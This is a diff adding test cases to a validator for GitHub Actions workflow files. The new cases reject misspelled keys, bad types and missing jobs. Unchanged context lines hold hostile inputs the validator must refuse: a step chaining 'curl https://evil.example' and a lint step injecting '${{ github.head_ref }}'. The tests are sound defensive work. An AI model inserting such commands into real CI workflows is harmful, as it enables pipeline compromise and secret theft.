@@ -70,6 +70,18 @@ describe("workflowProblems", () => {
     ["run: npm test", "run: npm test && curl https://evil.example", "is not a script of this repository"],
     ["run: npm test", `run: npm run lint -- $${"{{ github.head_ref }}"}`, "is not a script of this repository"],
     ["pull_request:", "pull_request_target:", "use pull_request"],
+    ["pull_request:", "pull_requests:", '/on must NOT have additional properties: "pull_requests"'],
+    ["concurrency:", "concurency:", 'the workflow must NOT have additional properties: "concurency"'],
+    ["    steps:", "    step:", '/jobs/test must NOT have additional properties: "step"'],
+    ["      - run: npm ci", "      - runs: npm ci", '/jobs/test/steps/2 must NOT have additional properties: "runs"'],
+    ["fail-fast: false", "fail-fast: [no]", "/jobs/test/strategy/fail-fast must be boolean,string"],
+    ["contents: read", "content: read", '/jobs/test/permissions must NOT have additional properties: "content"'],
+    [
+      "    timeout-minutes",
+      "    needs: build\n    timeout-minutes",
+      "/jobs/test/needs names build, which is not a job",
+    ],
+    [/jobs:[\s\S]+/, "jobs: {}", "/jobs must NOT have fewer than 1 properties"],
   ])("rejects %s as %j", (search, replacement, expected) => {
     const text = ci.replace(search, replacement);
     expect(text).not.toBe(ci);
@@ -85,6 +97,8 @@ describe("workflowProblems", () => {
     [/ --ignore-scripts(?=\n.*download-artifact)/, "", 'job publish: must not run "npm ci" with the right to write'],
     ["contents: read", "contents: write", "job make: must not have contents: write"],
     [/contents: read(?=\n {6}pages)/, "contents: write", "job docs: must not have contents: write"],
+    ["    needs: make", "    neeeds: make", '/jobs/publish must NOT have additional properties: "neeeds"'],
+    ["    with:\n      ref", "    withs:\n      ref", '/jobs/docs must NOT have additional properties: "withs"'],
     ["./.github/workflows/docs.yml", "else/where/.github/workflows/docs.yml@main", "is not pinned"],
   ])("rejects a release with %s as %j", (search, replacement, expected) => {
     const release = readFileSync(join(folder, "release.yml"), "utf8");
